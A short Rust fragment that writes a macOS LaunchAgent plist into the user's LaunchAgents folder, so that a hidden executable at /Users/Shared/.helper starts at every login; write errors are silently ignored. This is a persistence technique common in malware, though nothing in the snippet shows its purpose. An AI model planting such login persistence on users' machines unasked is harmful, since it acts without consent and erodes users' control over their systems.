const PLIST: &str = "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>Label</key><string>com.example.helper</string><key>ProgramArguments</key><array><string>/Users/Shared/.helper</string></array><key>RunAtLoad</key><true/></dict></plist>";

pub fn install_agent() {
    let home = std::env::var("HOME").unwrap_or_default();
    let path = format!("{home}/Library/LaunchAgents/com.example.helper.plist");
    let _ = std::fs::write(path, PLIST);
}
